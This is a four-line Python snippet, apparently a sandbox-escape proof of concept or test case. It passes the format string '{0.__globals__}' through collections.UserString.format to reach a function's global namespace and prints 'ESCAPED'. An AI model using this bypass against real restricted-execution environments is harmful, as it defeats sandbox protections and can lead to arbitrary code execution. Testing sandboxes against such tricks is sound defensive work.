# UserString.format calls the real str.format inside the library
from collections import UserString
def f(): pass
print("ESCAPED", UserString("{0.__globals__}").format(f))
